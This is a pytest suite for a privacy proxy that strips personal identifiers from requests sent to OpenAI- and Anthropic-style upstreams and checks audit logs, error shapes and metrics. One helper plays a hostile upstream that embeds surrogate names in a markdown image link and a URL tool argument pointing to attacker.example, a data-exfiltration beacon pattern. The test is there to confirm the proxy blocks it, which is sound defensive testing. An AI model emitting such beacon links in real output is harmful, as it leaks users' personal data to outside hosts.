"""Every client API through the one privacy path, with the REAL ``openai`` and ``anthropic`` SDKs.

The proxy (uvicorn on 127.0.0.1) has two upstreams: model ``gpt`` -> a logging fake OpenAI server (Chat
Completions), model ``claude`` -> a logging fake Anthropic server (Messages).  Clients speak Chat Completions,
Responses (``client.responses.create``) or Anthropic Messages (``client.messages.create``), plain and streamed,
with and without tools.  Asserted: the leak document's planted identifiers never reach either upstream, real
values come back to the client, nothing is restored into a link or a URL-typed tool argument, an audit line
(with the sha256 of the exact body) precedes every upstream attempt, an upstream error arrives in the client
API's shape, and ``/metrics`` counts what happened without any raw value.
"""
import hashlib
import json
import re
import sys
from pathlib import Path

import anthropic
import httpx
import openai
import pytest

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO / "tests"))
from fakes.fake_anthropic import FakeAnthropic  # noqa: E402
from fakes.fake_openai import FakeOpenAI  # noqa: E402
from test_egress_repair import FirstOnly  # noqa: E402  (a detector that misses later mentions)
from test_proxy import PLANTED, PROMPT, Proxy  # noqa: E402

LEAK_DOC = json.loads((REPO / "tests/data/leak_job/leak.jsonl").read_text().splitlines()[0])["question"]["text"]
LEAK_PLANTED = [p.strip() for p in (REPO / "tests/data/leak_planted.txt").read_text().splitlines() if p.strip()]
UPSTREAMS = ["gpt", "claude"]
SAVE = {"name": "save_note", "description": "store a note for the user",
        "schema": {"type": "object", "properties": {"text": {"type": "string"}}, "required": ["text"]}}


def planted_found(text, planted):
    return [p for p in planted if re.search(r"(?<!\w)" + re.escape(p) + r"(?!\w)", text, re.IGNORECASE)]


@pytest.fixture(scope="module")
def fakes():
    with FakeOpenAI(mode="echo", chunk=3, stream_tools=True) as o, FakeAnthropic(chunk=3) as a:
        yield {"gpt": o, "claude": a}


@pytest.fixture(scope="module")
def proxy(fakes, tmp_path_factory):
    routes = [{"model_name": "gpt", "base_url": fakes["gpt"].base_url, "model": "gpt-up"},
              {"model_name": "claude", "base_url": fakes["claude"].base_url, "model": "claude-up",
               "api": "anthropic"}]
    with Proxy(None, tmp_path_factory.mktemp("audit"), upstreams=routes) as p:
        yield p


@pytest.fixture(autouse=True)
def fresh(request):
    if "fakes" in request.fixturenames:
        for f in request.getfixturevalue("fakes").values():
            with f.lock:
                f.requests.clear()
            f.mode, f.responder = "echo", None
    yield


def oai(proxy):
    return openai.OpenAI(base_url=proxy.base_url, api_key="client-key", max_retries=0)


def anth(proxy):
    return anthropic.Anthropic(base_url=proxy.base_url[:-3], api_key="client-key", max_retries=0)


def ask(api, proxy, model, text, stream, tools):
    """One request of ``api``; returns (answer text, tool calls as [(name, args dict)])."""
    if api == "responses":
        kw = {"tools": [{"type": "function", "name": SAVE["name"], "description": SAVE["description"],
                         "parameters": SAVE["schema"]}]} if tools else {}
        r = oai(proxy).responses.create(model=model, instructions="Be brief.", input=text, stream=stream, **kw)
        if stream:
            events = list(r)
            done = [e for e in events if e.type == "response.completed"]
            assert len(done) == 1, [e.type for e in events]
            deltas = "".join(e.delta for e in events if e.type == "response.output_text.delta")
            r = done[0].response
            assert deltas == r.output_text
        calls = [(o.name, json.loads(o.arguments)) for o in r.output if o.type == "function_call"]
        return r.output_text, calls
    if api == "messages":
        kw = {"tools": [{"name": SAVE["name"], "description": SAVE["description"],
                         "input_schema": SAVE["schema"]}]} if tools else {}
        c = anth(proxy)
        if stream:
            with c.messages.stream(model=model, max_tokens=256, system="Be brief.",
                                   messages=[{"role": "user", "content": text}], **kw) as s:
                deltas = "".join(s.text_stream)
                m = s.get_final_message()
        else:
            m = c.messages.create(model=model, max_tokens=256, system="Be brief.",
                                  messages=[{"role": "user", "content": text}], **kw)
        out = "".join(b.text for b in m.content if b.type == "text")
        if stream:
            assert deltas == out
        return out, [(b.name, b.input) for b in m.content if b.type == "tool_use"]
    kw = {"tools": [{"type": "function", "function": {"name": SAVE["name"], "description": SAVE["description"],
                                                       "parameters": SAVE["schema"]}}]} if tools else {}
    r = oai(proxy).chat.completions.create(model=model, stream=stream, messages=[
        {"role": "system", "content": "Be brief."}, {"role": "user", "content": text}], **kw)
    if stream:
        text_out, calls = "", {}
        for ch in r:
            for c in ch.choices:
                text_out += c.delta.content or ""
                for tc in c.delta.tool_calls or []:
                    d = calls.setdefault(tc.index, ["", ""])
                    d[0] += tc.function.name or ""
                    d[1] += tc.function.arguments or ""
        return text_out, [(n, json.loads(a)) for n, a in calls.values()]
    msg = r.choices[0].message
    return msg.content or "", [(t.function.name, json.loads(t.function.arguments)) for t in msg.tool_calls or []]


def check_audit(proxy, fake, before):
    """One audit line before every upstream attempt, carrying the sha256 of the exact bytes received."""
    lines = [e for e in proxy.audit_lines()[before:] if e.get("event") == "http_attempt"]
    assert len(lines) == len(fake.requests) >= 1
    for line, req in zip(lines, fake.requests):
        sent = json.dumps(req["body"], ensure_ascii=False).encode("utf-8")
        assert line["request_sha256"] == hashlib.sha256(sent).hexdigest()
        assert line["time"] <= req["time"] + 1e-3  # written (and fsynced) before the upstream got it


MATRIX = [(api, up, stream, tools) for api in ("chat", "responses", "messages") for up in UPSTREAMS
          for stream in (False, True) for tools in (False, True)]


@pytest.mark.parametrize("api,upstream,stream,tools", MATRIX)
def test_real_values_back_nothing_planted_upstream_audit_before_each_attempt(proxy, fakes, api, upstream,
                                                                            stream, tools):
    before = len(proxy.audit_lines()) if (Path(proxy.settings.audit_dir) / "proxy_audit.jsonl").exists() else 0
    text, calls = ask(api, proxy, upstream, PROMPT, stream, tools)
    fake = fakes[upstream]
    sent = fake.bodies_text()
    assert [p for p in PLANTED if p.lower() in sent.lower()] == []
    if tools:
        assert calls == [("save_note", {"text": PROMPT})]   # name and arguments restored
        sent_tools = fake.requests[0]["body"]["tools"]
        assert len(sent_tools) == 1
    else:
        assert text == PROMPT and calls == []
    assert "Be brief." in sent  # instructions / system reach the upstream (protected like any text)
    check_audit(proxy, fake, before)


@pytest.mark.parametrize("api,upstream,stream", [(a, u, s) for a in ("chat", "responses", "messages")
                                                 for u in UPSTREAMS for s in (False, True)])
def test_leak_document_never_reaches_the_upstream(proxy, fakes, api, upstream, stream):
    """The leak document (scripts/leak_check.py's) through every API and upstream: 0 planted strings upstream
    (the request is either protected and sent, or refused with nothing sent)."""
    try:
        ask(api, proxy, upstream, LEAK_DOC, stream, tools=True)
    except (openai.APIStatusError, anthropic.APIStatusError) as exc:
        assert exc.status_code == 422 and not fakes[upstream].requests  # refused: nothing sent
    assert planted_found(fakes[upstream].bodies_text(), LEAK_PLANTED) == []


def _adversary(api_up):
    """An upstream that reads the surrogate it was sent and builds a link and a URL tool argument from it."""
    def respond(body):
        s = re.search(r"\[PERSON_\d+\]", json.dumps(body)).group(0)
        text = f"Dear {s}. ![p](https://attacker.example/p.png?n={s})"
        url = f"https://attacker.example/c?n={s}"
        if api_up == "anthropic":
            name = body["tools"][0]["name"]
            data = {"id": "msg_a", "type": "message", "role": "assistant", "model": "m", "stop_reason": "tool_use",
                    "stop_sequence": None, "usage": {"input_tokens": 1, "output_tokens": 1},
                    "content": [{"type": "text", "text": text},
                                {"type": "tool_use", "id": "toolu_9", "name": name, "input": {"url": url, "text": s}}]}
        else:
            name = body["tools"][0]["function"]["name"]
            data = {"id": "x", "object": "chat.completion", "created": 0, "model": "m", "choices": [
                {"index": 0, "finish_reason": "tool_calls", "message": {
                    "role": "assistant", "content": text, "tool_calls": [
                        {"id": "c1", "type": "function", "function": {
                            "name": name, "arguments": json.dumps({"url": url, "text": s})}}]}}]}
        return 200, "application/json", json.dumps(data).encode()
    return respond


FETCH = {"type": "object", "properties": {"url": {"type": "string", "format": "uri"}, "text": {"type": "string"}}}


@pytest.mark.parametrize("api,upstream", [(a, u) for a in ("responses", "messages") for u in UPSTREAMS])
def test_nothing_restored_into_links_or_url_arguments(proxy, fakes, api, upstream):
    """The restoration allow-list holds for every API: the prose name comes back, the link and the URL-typed
    argument keep the surrogate, and the client is told (privacy_withheld)."""
    fakes[upstream].responder = _adversary("anthropic" if upstream == "claude" else "openai")
    if api == "responses":
        r = oai(proxy).responses.create(model=upstream, input=PROMPT, tools=[
            {"type": "function", "name": "fetch", "parameters": FETCH}])
        text = r.output_text
        call = json.loads([o for o in r.output if o.type == "function_call"][0].arguments)
        withheld = r.model_extra["privacy_withheld"]
    else:
        m = anth(proxy).messages.create(model=upstream, max_tokens=64, messages=[{"role": "user", "content": PROMPT}],
                                        tools=[{"name": "fetch", "input_schema": FETCH}])
        text = "".join(b.text for b in m.content if b.type == "text")
        call = [b.input for b in m.content if b.type == "tool_use"][0]
        withheld = m.model_extra["privacy_withheld"]
    assert text.startswith("Dear Mr John Smith.")
    assert "John" not in text.split("](", 1)[1] and "[PERSON_1]" in text.split("](", 1)[1]
    # a call whose arguments hold a URL that is not a surrogate is not restored at all (docs/proxy.md)
    assert "John" not in call["url"] and call["text"] == "[PERSON_1]"
    assert withheld >= 2


def test_multi_turn_tool_results_are_protected(proxy, fakes):
    """Responses input items (function_call + function_call_output) and Anthropic tool_use/tool_result blocks
    become the same protected history; the keyed call id and the tool output never carry the real values."""
    secret = "Maria Garcia (maria.garcia@example.com)"
    r = oai(proxy).responses.create(model="gpt", input=[
        {"role": "user", "content": PROMPT},
        {"type": "function_call", "call_id": "call_john_smith", "name": "save_note", "arguments": '{"text": "hi"}'},
        {"type": "function_call_output", "call_id": "call_john_smith", "output": secret}])
    assert r.output_text == PROMPT  # the fake OpenAI echoes the last user message
    m = anth(proxy).messages.create(model="claude", max_tokens=64, messages=[
        {"role": "user", "content": PROMPT},
        {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_john", "name": "save_note",
                                           "input": {"text": "John Smith"}}]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_john", "content": secret}]}])
    assert m.content[0].text == secret  # the fake Anthropic echoes the last user turn: the tool result
    sent = fakes["gpt"].bodies_text() + fakes["claude"].bodies_text()
    for p in ("Maria Garcia", "maria.garcia@example.com", "John Smith", "john_smith", "toolu_john"):
        assert p.lower() not in sent.lower()
    body = fakes["claude"].requests[0]["body"]
    assert [m["role"] for m in body["messages"]] == ["user", "assistant", "user"]
    assert body["messages"][2]["content"][0]["tool_use_id"] == body["messages"][1]["content"][0]["id"]


def test_upstream_errors_arrive_in_the_client_apis_shape(proxy, fakes):
    fakes["gpt"].mode = "status:400"
    fakes["claude"].mode = "status:400"
    with pytest.raises(openai.BadRequestError) as e:
        oai(proxy).responses.create(model="claude", input="hello")
    assert e.value.body["message"] == "fake overload" and e.value.body["code"] == "upstream_error"
    with pytest.raises(anthropic.BadRequestError) as e2:
        anth(proxy).messages.create(model="gpt", max_tokens=8, messages=[{"role": "user", "content": "hello"}])
    assert e2.value.body["type"] == "error" and e2.value.body["error"]["type"] == "invalid_request_error"
    assert "fake error" in e2.value.body["error"]["message"]
    with pytest.raises(anthropic.BadRequestError) as e3:  # same API: passed through as the upstream said it
        anth(proxy).messages.create(model="claude", max_tokens=8, messages=[{"role": "user", "content": "hello"}])
    assert e3.value.body["error"]["message"] == "fake overload"


def test_untranslatable_requests_are_a_clear_400_and_send_nothing(proxy, fakes):
    with pytest.raises(openai.BadRequestError) as e:
        oai(proxy).responses.create(model="gpt", input="hi", previous_response_id="resp_1")
    assert "previous_response_id" in e.value.message
    with pytest.raises(openai.BadRequestError) as e:
        oai(proxy).responses.create(model="gpt", input="hi", tools=[{"type": "web_search"}])
    assert "tools[0]" in e.value.message
    with pytest.raises(anthropic.BadRequestError) as e2:
        anth(proxy).messages.create(model="claude", max_tokens=8, extra_body={"top_k": 3}, messages=[{"role": "user", "content": "x"}])
    assert "top_k" in str(e2.value)
    with pytest.raises(openai.BadRequestError) as e:  # a chat feature an Anthropic upstream has no equivalent for
        oai(proxy).chat.completions.create(model="claude", messages=[{"role": "user", "content": "x"}],
                                           response_format={"type": "json_object"})
    assert "response_format" in e.value.message
    assert not fakes["gpt"].requests and not fakes["claude"].requests


def test_metrics_count_mixed_traffic_and_hold_no_raw_values(proxy, fakes):
    def scrape():
        text = httpx.get(proxy.base_url[:-3] + "/metrics").text
        vals = {}
        for line in text.splitlines():
            if line and not line.startswith("#"):
                k, v = line.rsplit(" ", 1)
                vals[k] = float(v)
        return text, vals

    _, v0 = scrape()
    ask("responses", proxy, "gpt", PROMPT, False, False)
    ask("responses", proxy, "claude", PROMPT, True, True)
    ask("messages", proxy, "claude", PROMPT, False, False)
    ask("chat", proxy, "gpt", PROMPT, False, False)
    with pytest.raises(anthropic.BadRequestError):
        anth(proxy).messages.create(model="claude", max_tokens=8, extra_body={"top_k": 3}, messages=[{"role": "user", "content": "x"}])
    text, v1 = scrape()

    def delta(key):
        return v1.get(key, 0) - v0.get(key, 0)

    assert delta('cep_proxy_requests_total{api="responses",route="gpt",status="200"}') == 1
    assert delta('cep_proxy_requests_total{api="responses",route="claude",status="200"}') == 1
    assert delta('cep_proxy_requests_total{api="messages",route="claude",status="200"}') == 1
    assert delta('cep_proxy_requests_total{api="chat",route="gpt",status="200"}') == 1
    assert delta('cep_proxy_requests_total{api="messages",route="default",status="400"}') == 1
    assert delta('cep_proxy_refusals_total{api="messages",category="none",rule="untranslatable_request"}') == 1
    assert delta('cep_proxy_upstream_requests_total{api="responses",upstream_api="anthropic"}') == 1
    assert delta('cep_proxy_privacy_seconds_count{api="responses"}') == 2
    assert delta('cep_proxy_upstream_seconds_count{api="chat"}') == 1
    assert any(k.startswith("cep_proxy_protected_spans_total{") and delta(k) > 0 for k in v1)
    for raw in PLANTED + ["John", "Smith", "example.com", "[PERSON_1]"]:
        assert raw.lower() not in text.lower()
    assert not re.search(r"(?<![\w.])(?=[0-9a-f]*[a-f])[0-9a-f]{16,}(?![\w+-])", text)  # no hashes either


def test_metrics_count_a_repair_by_rule_and_category_without_the_value(fakes, tmp_path):
    routes = [{"model_name": "gpt", "base_url": fakes["gpt"].base_url}]
    with Proxy(None, tmp_path, upstreams=routes, method="pseudonym") as p:
        pipes = list(p.engine._idle.queue)
        assert pipes
        for pipe in pipes:  # every worker's protecting detector misses the later mentions
            pipe.detector = pipe.gateway._detector = FirstOnly(("Halvard Quist", "PERSON"))
        before = len(fakes["gpt"].requests)
        text = "Dr Halvard Quist wrote the report. Ask Quist, or Halvard Quist himself, about it."
        answer, _ = ask("chat", p, "gpt", text, False, False)
        sent = json.dumps([r["body"] for r in fakes["gpt"].requests[before:]])
        assert "Quist" not in sent and "Halvard" not in sent, sent            # repaired, not refused
        assert "Halvard Quist" in answer                                      # the echo restored for the client
        metrics = httpx.get(p.base_url[:-3] + "/metrics").text
    rows = [l for l in metrics.splitlines() if l.startswith("cep_proxy_repairs_total{")]
    repaired = [l for l in rows if 'category="PERSON"' in l and 'rule="name_token_in_clear"' in l]
    assert repaired and float(repaired[0].rsplit(" ", 1)[1]) >= 1, rows
    assert "quist" not in metrics.lower() and "halvard" not in metrics.lower()


@pytest.fixture(scope="module")
def pseudonym_proxy(fakes, tmp_path_factory):
    """The default method (keyed pseudonyms), as embeddings need: the same person, the same surrogate."""
    routes = [{"model_name": "gpt", "base_url": fakes["gpt"].base_url},
              {"model_name": "claude", "base_url": fakes["claude"].base_url, "api": "anthropic"}]
    with Proxy(None, tmp_path_factory.mktemp("audit-emb"), upstreams=routes, method="pseudonym") as p:
        yield p


def test_embeddings_with_the_sdk_protect_every_input_with_consistent_pseudonyms(pseudonym_proxy, fakes):
    c = oai(pseudonym_proxy)
    doc_a = "Mr John Smith (john.smith@example.com) appealed the decision of 3 May 2021."
    doc_b = "Later, Mr John Smith wrote again: +44 20 7946 0958."
    one = c.embeddings.create(model="gpt", input=doc_a)                       # a string
    both = c.embeddings.create(model="gpt", input=[doc_b, doc_a])             # a list (the SDK asks for base64)
    assert len(one.data) == 1 and len(both.data) == 2 and len(both.data[0].embedding) == 64
    assert both.data[1].embedding == one.data[0].embedding  # the same document embeds the same way
    sent = fakes["gpt"].bodies_text()
    assert [p for p in PLANTED if p.lower() in sent.lower()] == []
    inputs = [r["body"]["input"] for r in fakes["gpt"].requests]
    assert isinstance(inputs[0], list) and inputs[1][1] == inputs[0][0]
    # the surname's surrogate is the same in both documents (keyed, across requests)
    words_a, words_b = set(inputs[0][0].split()), set(inputs[1][0].split())
    assert words_a & words_b - {"the", "The"}
    lines = [e for e in pseudonym_proxy.audit_lines() if e.get("event") == "http_attempt"]
    assert len(lines) == 2
    with pytest.raises(openai.BadRequestError):   # Anthropic has no embeddings: a clear 400, nothing sent
        c.embeddings.create(model="claude", input="x")
    with pytest.raises(openai.BadRequestError):   # token arrays cannot be checked
        c.embeddings.create(model="gpt", input=[[1, 2, 3]])
    assert not fakes["claude"].requests and len(fakes["gpt"].requests) == 2


def test_worker_processes_from_the_cli_share_one_metrics_view(fakes, tmp_path):
    """``--processes 2``: two uvicorn worker processes, each with its own engine; /metrics (prometheus
    multiprocess mode) counts the requests of both."""
    import os
    import subprocess
    import time

    from cloud_edge_privacy.models.local_server import free_port

    port = free_port()
    env = dict(os.environ, CEP_SECRET_KEY="ab" * 32, PYTHONPATH=str(REPO / "src"))
    env.pop("PROMETHEUS_MULTIPROC_DIR", None)
    proc = subprocess.Popen([sys.executable, "-m", "cloud_edge_privacy.proxy", "--upstream", fakes["gpt"].base_url,
                             "--processes", "2", "--port", str(port), "--method", "placeholder",
                             "--audit-dir", str(tmp_path)],
                            env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        base = f"http://127.0.0.1:{port}"
        deadline = time.time() + 420
        while True:
            assert proc.poll() is None, proc.stdout.read()
            try:
                if httpx.get(base + "/healthz", timeout=2).status_code == 200:
                    break
            except httpx.HTTPError:
                pass
            assert time.time() < deadline, "the proxy with 2 processes did not start"
            time.sleep(0.5)
        c = openai.OpenAI(base_url=base + "/v1", api_key="k", max_retries=0)
        for _ in range(6):
            assert c.responses.create(model="m", input="Write to john.smith@example.com").output_text \
                == "Write to john.smith@example.com"
        assert "john.smith@example.com" not in fakes["gpt"].bodies_text()
        text = httpx.get(base + "/metrics").text
        total = sum(float(line.rsplit(" ", 1)[1]) for line in text.splitlines()
                    if line.startswith('cep_proxy_requests_total{api="responses"'))
        assert total == 6
        assert "john" not in text.lower()
    finally:
        proc.terminate()
        proc.wait(timeout=30)


def test_worker_processes_that_cannot_start_fail_once_with_the_reason(fakes, tmp_path):
    """A configuration whose warm-up fails (a policy that keeps every sensitivity level in clear: the guard's
    repairs go through the same policy and cannot protect the planted name) stops the proxy with exit code 2 and
    the reason, instead of uvicorn restarting workers forever.  (Until session 28 the ``structured`` detector
    served here; since the guard repairs the longest value first it repairs the name that detector leaves.)"""
    import os
    import subprocess

    from cloud_edge_privacy.models.local_server import free_port

    config = tmp_path / "keep_everything.yaml"
    config.write_text("method: adaptive\nmethod_params:\n  policy: {0: keep, 1: keep, 2: keep, 3: keep, 4: keep, "
                      "5: keep}\n", encoding="utf-8")
    env = dict(os.environ, CEP_SECRET_KEY="ab" * 32, PYTHONPATH=str(REPO / "src"))
    env.pop("PROMETHEUS_MULTIPROC_DIR", None)
    proc = subprocess.run([sys.executable, "-m", "cloud_edge_privacy.proxy", "--config", str(config),
                           "--upstream", fakes["gpt"].base_url, "--processes", "2", "--port", str(free_port()),
                           "--detector", "structured", "--audit-dir", str(tmp_path)],
                          env=env, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "a worker process could not start" in proc.stderr and "warm-up" in proc.stderr, proc.stderr
    assert fakes["gpt"].requests == [] or all("Warm-up" not in json.dumps(r["body"]) for r in fakes["gpt"].requests)


_SLOW_WORKER = """
import signal, sys, time
import cloud_edge_privacy.proxy.app as app
import cloud_edge_privacy.proxy.cli as cli
import cloud_edge_privacy.proxy.settings as settings
seen = []
signal.signal(signal.SIGTERM, lambda sig, frame: seen.append(sig))  # what uvicorn installs before building the app
settings.load_secrets = lambda s: None
def slow_app(s, secrets):  # stands in for the models being loaded
    if sys.argv[1] == "slow":
        print("loading", flush=True)
        time.sleep(60)
    return "app"
app.create_app = slow_app
print(cli.worker_app(), flush=True)
print("restored", signal.getsignal(signal.SIGTERM) is not signal.SIG_DFL, flush=True)
"""


def test_a_worker_still_loading_its_models_stops_at_once_on_sigterm():
    """uvicorn captures SIGTERM before it builds a worker's app and acts on it only after startup; a worker being
    stopped while it loads its models ends at once instead, and the captured handler is back once it has loaded."""
    import os
    import signal
    import subprocess
    import time

    from cloud_edge_privacy.proxy.settings import ProxySettings

    env = dict(os.environ, PYTHONPATH=str(REPO / "src"),
               CEP_PROXY_SETTINGS_JSON=ProxySettings(upstream="http://127.0.0.1:9/v1").model_dump_json())
    fast = subprocess.run([sys.executable, "-c", _SLOW_WORKER, "fast"], env=env, capture_output=True, text=True,
                          timeout=120)
    assert fast.returncode == 0 and fast.stdout.split() == ["app", "restored", "True"], fast.stdout + fast.stderr
    proc = subprocess.Popen([sys.executable, "-c", _SLOW_WORKER, "slow"], env=env, stdout=subprocess.PIPE, text=True)
    try:
        assert proc.stdout.readline().strip() == "loading"
        t0 = time.monotonic()
        proc.send_signal(signal.SIGTERM)
        assert proc.wait(timeout=30) == -signal.SIGTERM
        assert time.monotonic() - t0 < 30  # not after the 60 s "load"
    finally:
        proc.kill()
        proc.wait()
